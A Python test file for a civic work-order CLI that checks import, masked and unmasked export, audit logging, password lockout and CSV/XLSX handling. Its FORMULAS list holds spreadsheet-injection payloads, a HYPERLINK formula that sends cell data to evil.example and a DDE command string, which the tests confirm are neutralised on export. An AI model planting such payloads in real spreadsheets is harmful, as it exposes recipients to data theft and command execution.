"""``wanzheng cases import/export/add-user/escalate`` through the CLI runner, on both databases."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from wanzheng.cases.store import Case, CaseEvent, UnmaskLog, make_engine, make_sessionmaker
from wanzheng.cli import app
from wanzheng.data.cells import write_csv
from wanzheng.errors import DataError, PermissionDeniedError, RateLimitedError

runner = CliRunner()


def _count(url: str, model: type) -> int:
    engine = make_engine(url, pool_size=1)
    with make_sessionmaker(engine)() as s:
        n = s.scalar(select(func.count()).select_from(model))
    engine.dispose()
    return int(n or 0)


def test_import_ok_then_reimport_is_skipped(database_url: str, data_dir: Path) -> None:
    f = data_dir / "cases" / "workorders_ok.xlsx"
    r = runner.invoke(app, ["cases", "import", str(f), "--database", database_url])
    assert r.exit_code == 0, r.output
    assert "5 cases imported, 0 skipped, 0 rejected" in r.output
    engine = make_engine(database_url, pool_size=1)
    with make_sessionmaker(engine)() as s:
        cases = {c.text: c for c in s.scalars(select(Case)).all()}
        a = cases["小区北门路灯不亮"]
        assert (a.state, a.rating, a.category_key, a.grid_key) == (
            "closed",
            "满意",
            "urban.municipal",
            "west-1",
        )
        b = cases["楼下烧烤油烟扰民"]
        assert b.category_key == "environment.pollution" and b.rating == "不满意"
        c = cases["电梯经常停运"]
        assert c.state == "in_progress" and c.department_key == "housing" and c.lon is None
        d = cases["咨询居住证办理"]  # GCJ-02 input converted to WGS-84 (~ -0.006°, -0.001°)
        assert d.lon is not None and 116.355 < d.lon < 116.3575 and d.grid_key == "east-1"
        assert cases["反映内容与政务无关"].state == "rejected"
        for case in cases.values():
            ev = s.scalars(
                select(CaseEvent).where(CaseEvent.case_id == case.id).order_by(CaseEvent.id)
            ).all()
            assert ev[-1].to_state == case.state
    engine.dispose()
    r = runner.invoke(app, ["cases", "import", str(f), "--database", database_url])
    assert r.exit_code == 0 and "0 cases imported, 5 skipped" in r.output
    assert _count(database_url, Case) == 5


def test_bad_rows_are_all_reported_and_nothing_is_imported(
    database_url: str, data_dir: Path
) -> None:
    f = data_dir / "cases" / "workorders_bad.xlsx"
    r = runner.invoke(app, ["cases", "import", str(f), "--database", database_url])
    assert r.exit_code == 2
    out = r.output
    for n, why in [(3, "text"), (4, "受理时间"), (5, "category"), (6, "phone"), (7, "办结时间")]:
        line = next(ln for ln in out.splitlines() if ln.startswith(f"rejected row {n}:"))
        assert why in line, line
    assert "rejected row 2" not in out and "rejected row 8" not in out
    assert "nothing imported: 5 rows rejected" in out
    assert _count(database_url, Case) == 0
    r = runner.invoke(
        app, ["cases", "import", str(f), "--skip-invalid", "--database", database_url]
    )
    assert r.exit_code == 0 and "2 cases imported, 0 skipped, 5 rejected" in r.output
    assert _count(database_url, Case) == 2


def test_export_masked_and_unmasked_logged(
    database_url: str, data_dir: Path, tmp_path: Path
) -> None:
    runner.invoke(
        app,
        [
            "cases",
            "import",
            str(data_dir / "cases" / "workorders_ok.xlsx"),
            "--database",
            database_url,
        ],
    )
    out = tmp_path / "cases.xlsx"
    r = runner.invoke(app, ["cases", "export", "--out", str(out), "--database", database_url])
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(out)
    ws = wb.active
    assert ws is not None
    text = " ".join(str(c) for row in ws.iter_rows(values_only=True) for c in row)
    wb.close()
    assert "13800138000" not in text and "138****8000" in text and "张三" not in text
    r = runner.invoke(
        app,
        [
            "cases",
            "export",
            "--out",
            str(tmp_path / "x.csv"),
            "--unmask",
            "--user",
            "nobody",
            "--database",
            database_url,
        ],
        input="pw-12345678\n",
    )
    assert r.exit_code != 0
    r = runner.invoke(
        app,
        [
            "cases",
            "add-user",
            "disp",
            "--role",
            "dispatcher",
            "--password",
            "pw-12345678",
            "--database",
            database_url,
        ],
    )
    assert r.exit_code == 0, r.output
    csv_out = tmp_path / "full.csv"
    r = runner.invoke(
        app,
        [
            "cases",
            "export",
            "--out",
            str(csv_out),
            "--unmask",
            "--user",
            "disp",
            "--purpose",
            "移交区级平台",
            "--database",
            database_url,
        ],
        input="pw-12345678\n",
    )
    assert r.exit_code == 0, r.output
    with csv_out.open(encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    assert rows[0][8] == "联系电话" and "13800138000" in {r[8] for r in rows[1:]}
    assert _count(database_url, UnmaskLog) == 1


def test_escalate_command(database_url: str) -> None:
    r = runner.invoke(app, ["cases", "escalate", "--database", database_url])
    assert r.exit_code == 0 and "0 overdue cases escalated" in r.output


def test_export_says_which_categories_staff_confirmed(
    database_url: str, data_dir: Path, tmp_path: Path
) -> None:
    import datetime as dt

    from wanzheng.cases.states import load_state_machine
    from wanzheng.cases.store import Actor, apply_action

    f = data_dir / "cases" / "workorders_ok.xlsx"
    r = runner.invoke(app, ["cases", "import", str(f), "--database", database_url])
    assert r.exit_code == 0, r.output
    engine = make_engine(database_url, pool_size=1)
    with make_sessionmaker(engine)() as s:
        lift = s.scalar(select(Case).where(Case.text == "电梯经常停运"))
        assert lift is not None and lift.category_source == "imported"
        apply_action(
            s,
            case_id=lift.id,
            actor=Actor(role="dispatcher", user_id=None, username="d"),
            action="recategorise",
            now=dt.datetime(2026, 9, 4, 2, 0, tzinfo=dt.UTC),
            machine=load_state_machine(),
            category="urban.property",
        )
        s.commit()
        lift_id = lift.id
    engine.dispose()
    out = tmp_path / "all.csv"
    r = runner.invoke(app, ["cases", "export", "--out", str(out), "--database", database_url])
    assert r.exit_code == 0, r.output
    with out.open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 5
    by_id = {int(row["工单编号"]): row for row in rows}
    assert (by_id[lift_id]["分类来源"], by_id[lift_id]["分类已确认"]) == ("staff", "是")
    assert sorted(row["分类已确认"] for row in rows) == ["否", "否", "否", "否", "是"]
    out = tmp_path / "confirmed.csv"
    r = runner.invoke(
        app,
        ["cases", "export", "--out", str(out), "--confirmed-only", "--database", database_url],
    )
    assert r.exit_code == 0, r.output
    assert "1 cases written" in r.output
    with out.open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert [(row["诉求内容"], row["诉求类别"]) for row in rows] == [
        ("电梯经常停运", "urban.property")
    ]


def test_export_redacts_free_text_unless_unmasked_and_logged(
    database_url: str, tmp_path: Path
) -> None:
    src = tmp_path / "orders.csv"
    with src.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["工单编号", "受理时间", "诉求内容", "地址", "办理状态", "办结时间"])
        w.writerow(
            [
                "GD1",
                "2026-09-01 09:15",
                "电梯坏了，请回电13912345678，身份证11010519491231002X",
                "演示街道东区3号楼2单元501室",
                "已关闭",
                "2026-09-02 16:00",
            ]
        )
    r = runner.invoke(app, ["cases", "import", str(src), "--database", database_url])
    assert r.exit_code == 0, r.output
    masked = tmp_path / "masked.csv"
    r = runner.invoke(app, ["cases", "export", "--out", str(masked), "--database", database_url])
    assert r.exit_code == 0, r.output
    with masked.open(encoding="utf-8-sig") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["诉求内容"] == "电梯坏了，请回电〔手机号〕，身份证〔身份证号〕"
    assert row["地址"] == "演示街道东区〔详细地址〕"
    assert _count(database_url, UnmaskLog) == 0
    r = runner.invoke(
        app,
        [
            *("cases", "add-user", "disp", "--role", "dispatcher"),
            *("--password", "pw-12345678", "--database", database_url),
        ],
    )
    assert r.exit_code == 0, r.output
    full = tmp_path / "full.csv"
    r = runner.invoke(
        app,
        [
            *("cases", "export", "--out", str(full), "--unmask", "--user", "disp"),
            *("--purpose", "移交区级平台", "--database", database_url),
        ],
        input="pw-12345678\n",
    )
    assert r.exit_code == 0, r.output
    with full.open(encoding="utf-8-sig") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["诉求内容"] == "电梯坏了，请回电13912345678，身份证11010519491231002X"
    assert row["地址"] == "演示街道东区3号楼2单元501室"
    assert _count(database_url, UnmaskLog) == 1


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"详情")',
    "+1+1 路灯坏了",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1) 噪音扰民",
    "'=已经带引号的文字",
]


def test_export_writes_formula_text_as_text_and_import_round_trips(
    database_url: str, tmp_path: Path
) -> None:
    # The source file is written the way the project writes files (so "'=…" is stored as is).
    src = tmp_path / "orders.csv"
    write_csv(
        src,
        ["工单编号", "受理时间", "诉求内容", "地址", "经度", "纬度", "办理状态"],
        [
            [f"GD{i}", "2026-09-01 09:15", text, "=A1", 116.3570, 40.0010, "已提交"]
            for i, text in enumerate(FORMULAS)
        ],
    )
    r = runner.invoke(app, ["cases", "import", str(src), "--database", database_url])
    assert r.exit_code == 0, r.output
    xlsx = tmp_path / "out.xlsx"
    out_csv = tmp_path / "out.csv"
    for out in (xlsx, out_csv):
        r = runner.invoke(app, ["cases", "export", "--out", str(out), "--database", database_url])
        assert r.exit_code == 0, r.output
    ws = openpyxl.load_workbook(xlsx).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    text_col = header.index("诉求内容")
    rows = list(ws.iter_rows(min_row=2))
    assert [row[text_col].value for row in rows] == ["'" + t for t in FORMULAS]
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert cell.value[0] not in "=+-@\t\r", (cell.coordinate, cell.value)
        assert row[header.index("地址")].value == "'=A1"
        assert isinstance(row[header.index("经度")].value, float)  # numbers stay numbers
    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
        records = list(csv.DictReader(fh))
    assert [rec["诉求内容"] for rec in records] == ["'" + t for t in FORMULAS]
    assert all(rec["地址"] == "'=A1" for rec in records)
    # Import the export back: the apostrophe added against formulas is removed again.
    engine = make_engine(database_url, pool_size=1)
    with make_sessionmaker(engine)() as s:
        before = {c.id for c in s.scalars(select(Case)).all()}
    for exported in (xlsx, out_csv):
        r = runner.invoke(app, ["cases", "import", str(exported), "--database", database_url])
        assert r.exit_code == 0, r.output
    with make_sessionmaker(engine)() as s:
        back = [c for c in s.scalars(select(Case).order_by(Case.id)).all() if c.id not in before]
    engine.dispose()
    # the exported 工单编号 is the case id: both files carry the same numbers, so the
    # second import skips every row as already imported
    assert [c.text for c in back] == FORMULAS
    assert [c.address for c in back] == ["=A1"] * len(FORMULAS)


def _gbk_orders(path: Path, *, text: str = "小区北门路灯不亮") -> Path:
    rows = [
        "工单编号,受理时间,诉求内容,地址,办理状态",
        f"GBK-1,2026-10-01 09:00,{text},学院路20号,已提交",
        "GBK-2,2026-10-02 10:30,楼下烧烤油烟扰民，晚上十点后还在营业,学院路30号,已提交",
    ]
    path.write_bytes(("\r\n".join(rows) + "\r\n").encode("gbk"))
    return path


def test_gbk_csv_with_english_or_chinese_headers_imports(database_url: str, tmp_path: Path) -> None:
    f = _gbk_orders(tmp_path / "工单.csv")
    r = runner.invoke(app, ["cases", "import", str(f), "--database", database_url])
    assert r.exit_code == 0, r.output
    assert "2 cases imported, 0 skipped, 0 rejected" in r.output
    engine = make_engine(database_url, pool_size=1)
    with make_sessionmaker(engine)() as s:
        texts = sorted(c.text for c in s.scalars(select(Case)).all())
        assert texts == ["小区北门路灯不亮", "楼下烧烤油烟扰民，晚上十点后还在营业"]
        assert {c.address for c in s.scalars(select(Case)).all()} == {"学院路20号", "学院路30号"}
    engine.dispose()
    # the same orders under English headers (an export of another system) are the same orders
    english = tmp_path / "orders.csv"
    english.write_text(
        "order_no,submitted_at,text,address,state\n"
        "GBK-1,2026-10-01 09:00,小区北门路灯不亮,学院路20号,已提交\n",
        encoding="utf-8",
    )
    r = runner.invoke(app, ["cases", "import", str(english), "--database", database_url])
    assert r.exit_code == 0, r.output
    assert "0 cases imported, 1 skipped" in r.output


def test_huge_cell_is_refused_naming_row_and_column_and_nothing_is_written(
    database_url: str, tmp_path: Path
) -> None:
    f = tmp_path / "orders.csv"
    huge = "路灯" * (100 * 1024)  # 204,800 characters: 400 KiB in GBK, 600 KiB in UTF-8
    f.write_bytes(
        (
            "工单编号,受理时间,诉求内容,办理状态\r\n"
            "H-1,2026-10-01 09:00,井盖丢了,已提交\r\n"
            f"H-2,2026-10-01 09:05,{huge},已提交\r\n"
        ).encode("gbk")
    )
    r = runner.invoke(app, ["cases", "import", str(f), "--database", database_url])
    assert r.exit_code != 0
    assert isinstance(r.exception, DataError)
    message = str(r.exception)
    assert f"{f}: row 3: column '诉求内容'" in message
    assert "614,400 bytes" in message and "at most 131,072" in message
    assert _count(database_url, Case) == 0  # the good row 2 was not imported either


def test_unmasked_export_needs_the_accounts_password_and_logs_that_account(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from wanzheng.cases.store import User

    src = tmp_path / "orders.csv"
    write_csv(
        src,
        ["工单编号", "受理时间", "诉求内容", "地址", "联系电话", "办理状态", "办结时间"],
        [
            [
                *("GD9", "2026-09-01 09:15", "楼道灯坏了", "演示街道东区3号楼"),
                *("13912345678", "已关闭", "2026-09-02 16:00"),
            ]
        ],
    )
    r = runner.invoke(app, ["cases", "import", str(src), "--database", database_url])
    assert r.exit_code == 0, r.output
    r = runner.invoke(
        app,
        [
            *("cases", "add-user", "disp", "--role", "dispatcher"),
            *("--password", "pw-12345678", "--database", database_url),
        ],
    )
    assert r.exit_code == 0, r.output
    out = tmp_path / "full.csv"
    argv = [
        *("cases", "export", "--out", str(out), "--unmask", "--user", "disp"),
        *("--purpose", "移交区级平台", "--database", database_url),
    ]
    # a typed name alone is not enough: a wrong password (env or prompt) writes and logs nothing
    monkeypatch.setenv("WANZHENG_PASSWORD", "not-the-password")
    r = runner.invoke(app, argv)
    assert r.exit_code != 0 and isinstance(r.exception, PermissionDeniedError)
    monkeypatch.delenv("WANZHENG_PASSWORD")
    r = runner.invoke(app, argv, input="wrong-guess-123\n")
    assert r.exit_code != 0 and isinstance(r.exception, PermissionDeniedError)
    assert not out.exists()
    assert _count(database_url, UnmaskLog) == 0
    # the right password at the prompt: unmasked, logged under the authenticated account
    r = runner.invoke(app, argv, input="pw-12345678\n")
    assert r.exit_code == 0, r.output
    assert "13912345678" in out.read_text(encoding="utf-8-sig")
    monkeypatch.setenv("WANZHENG_PASSWORD", "pw-12345678")
    assert runner.invoke(app, argv).exit_code == 0
    engine = make_engine(database_url, pool_size=1)
    with make_sessionmaker(engine)() as s:
        disp = s.scalar(select(User).where(User.username == "disp"))
        logs = s.scalars(select(UnmaskLog).order_by(UnmaskLog.id)).all()
        assert disp is not None
        assert [(r.user_id, r.actor_label, r.fields) for r in logs] == [
            (disp.id, "dispatcher:disp", "export:1 cases"),
        ] * 2
    engine.dispose()
    # the password is throttled like the web login: repeated failures lock the account
    monkeypatch.setenv("WANZHENG_LOGIN_MAX_FAILURES", "2")
    monkeypatch.setenv("WANZHENG_PASSWORD", "guess-again-1")
    assert isinstance(runner.invoke(app, argv).exception, PermissionDeniedError)
    assert isinstance(runner.invoke(app, argv).exception, RateLimitedError)
    monkeypatch.setenv("WANZHENG_PASSWORD", "pw-12345678")
    r = runner.invoke(app, argv)
    assert isinstance(r.exception, RateLimitedError), r.output
    assert _count(database_url, UnmaskLog) == 2


def test_reimport_with_conflicting_rows_rejects_the_file_naming_them(
    database_url: str, data_dir: Path, tmp_path: Path
) -> None:
    ok = data_dir / "cases" / "workorders_ok.xlsx"
    r = runner.invoke(app, ["cases", "import", str(ok), "--database", database_url])
    assert r.exit_code == 0, r.output
    # a later export of the same system: row 2 unchanged, rows 3 and 5 changed, row 4 new
    ws = openpyxl.load_workbook(ok).active
    assert ws is not None
    header, *old = (
        [("" if v is None else str(v)) for v in r] for r in ws.iter_rows(values_only=True)
    )
    text = header.index("诉求内容")
    changed_2 = [*old[1][:text], "楼下烧烤油烟扰民，夜里更严重", *old[1][text + 1 :]]
    new = [*old[0][:text], "人行道地砖松动", *old[0][text + 1 :]]
    new[0] = "GD2026090006"
    changed_5 = [*old[4][:text], "反映的内容换了", *old[4][text + 1 :]]
    f = tmp_path / "again.csv"
    with f.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, old[0], changed_2, new, changed_5])
    r = runner.invoke(app, ["cases", "import", str(f), "--database", database_url])
    assert r.exit_code == 2, r.output
    for n, order in [(3, "GD2026090002"), (5, "GD2026090005")]:
        line = next(ln for ln in r.output.splitlines() if ln.startswith(f"rejected row {n}:"))
        assert order in line and "different" in line, line
    assert "rejected row 2" not in r.output and "rejected row 4" not in r.output
    assert "nothing imported: 2 rows rejected" in r.output
    assert _count(database_url, Case) == 5  # the new row was not written either


def test_export_row_and_header_are_one_list() -> None:
    """The export's header and its row builder name the same columns in the same order."""
    import datetime as dt

    from wanzheng.cases.states import load_state_machine
    from wanzheng.cases.transfer import EXPORT_COLUMNS, _export_row

    t = dt.datetime(2026, 9, 1, 1, 15, tzinfo=dt.UTC)
    case = Case(id=7, submitted_at=t, resolved_at=None, state="resolved", category_key="x")
    case.category_source = "staff"
    row = _export_row(
        case,
        text="路灯不亮",
        address=None,
        contact=(None, None, None),
        machine=load_state_machine(),
    )
    assert list(row) == list(EXPORT_COLUMNS)
    assert row["受理时间"] == "2026-09-01 09:15:00"  # Beijing time
    assert row["办理状态"] == "已办结待评价"
    assert row["分类已确认"] == "是"


def test_import_reads_every_state_label_the_export_writes() -> None:
    """办理状态 comes from states.toml: each importable state's label (what the export writes)
    reads back as that state; the other systems' labels stay accepted."""
    from wanzheng.cases.states import load_state_machine
    from wanzheng.cases.transfer import IMPORTED_STATES, state_names

    machine = load_state_machine()
    names = state_names(machine)
    for key in IMPORTED_STATES:
        assert names[machine.states[key].label] == key
    assert names["已办结"] == "resolved"
    assert names["已办结已回访"] == "closed"
    assert set(names.values()) == set(IMPORTED_STATES)
